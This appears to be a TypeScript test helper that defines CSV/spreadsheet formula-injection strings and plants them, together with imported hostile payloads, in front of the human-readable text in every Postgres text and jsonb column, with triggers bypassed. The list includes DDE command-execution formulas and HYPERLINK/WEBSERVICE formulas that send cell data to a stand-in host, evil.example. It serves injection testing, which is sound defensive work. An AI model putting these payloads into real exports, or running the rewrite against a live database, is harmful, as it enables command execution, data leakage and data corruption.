import pg from 'pg';
import { PAYLOADS } from '../e2e/hostile-texts.js';

/** Each has been taken for a formula by a program that opens tables, or by one that reads what it saved (S9). */
export const FORMULAS: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1,1)', `=cmd|' /C calc'!A0`, `@SUM(1+9)*cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?"&A1,"x")', `=WEBSERVICE("http://evil.example")`, '"=1+1', '\'=1+1', ' =1+1',
];
/** One of each in turn. */
export const HOSTILE: readonly string[] = PAYLOADS.flatMap((payload, index) => [payload, FORMULAS[index % FORMULAS.length] ?? '']);

let next = 0;
/** The next hostile text in front of this one, so that it also begins a cell, a line and an element. */
export const before = (text: string): string => `${HOSTILE[next++ % HOSTILE.length]}${text}`;

/** A text for people: Chinese, or words with blanks between them. Ids and codes are neither. */
const isForPeople = (text: string): boolean => /\p{Script=Han}/u.test(text) || /\p{L} \p{L}/u.test(text);
/** The same value with a hostile text in front of each of its texts. */
export function planted<T>(value: T): T {
  if (typeof value === 'string') return (isForPeople(value) ? before(value) : value) as T;
  if (Array.isArray(value)) return value.map(planted) as T;
  if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, planted<unknown>(each)])) as T;
  return value;
}

/** Names of holidays, of which nobody writes. */
const OURS = ['calendar_version'];

/** In front of every text for people in every table, whatever door it came in by. Answers in which columns. */
export async function plantEverywhere(ownerUrl: string): Promise<readonly string[]> {
  const owner = new pg.Client({ connectionString: ownerUrl });
  await owner.connect();
  const { rows: columns } = await owner.query<{ table: string; column: string; type: string }>(
    `select columns.table_name as table, columns.column_name as column, columns.data_type as type from information_schema.columns join information_schema.tables using (table_schema, table_name)
     where table_schema = 'public' and table_type = 'BASE TABLE' and columns.data_type in ('text', 'jsonb') and columns.is_generated = 'NEVER' and table_name <> all ($1) order by 1, 2`,
    [OURS],
  );
  const found: string[] = [];
  await owner.query(`set session_replication_role = replica`);
  for (const { table, column, type } of columns) {
    const { rows } = await owner.query<{ place: string; value: unknown }>(`select ctid::text as place, "${column}" as value from "${table}" where "${column}" is not null`);
    const changed = rows.map(({ place, value }) => [place, value, planted(value)] as const).filter(([, was, is]) => JSON.stringify(was) !== JSON.stringify(is));
    if (changed.length > 0) found.push(`${table}.${column}`);
    for (const [place, , is] of changed) await owner.query(`update "${table}" set "${column}" = $1 where ctid = $2::tid`, [type === 'jsonb' ? JSON.stringify(is) : is, place]);
  }
  await owner.end();
  return found;
}
